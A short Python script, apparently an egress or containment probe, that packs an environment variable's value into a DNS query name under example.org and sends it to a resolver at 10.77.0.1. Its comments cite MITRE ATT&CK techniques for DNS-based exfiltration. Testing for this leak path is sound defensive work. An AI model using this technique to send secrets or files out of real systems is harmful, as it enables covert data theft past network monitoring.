#!/usr/bin/python3
# tries: to hand out data in the names it asks a resolver for
# works: name look-ups are let nearly everywhere
# see: MITRE ATT&CK T1071.004, T1048.003
# goal: reach
import os
import socket
import struct

mark = os.environ["MARK"].encode()
query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + bytes([len(mark)]) + mark + b"\7example\3org\0\0\1\0\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(query, ("10.77.0.1", 53))
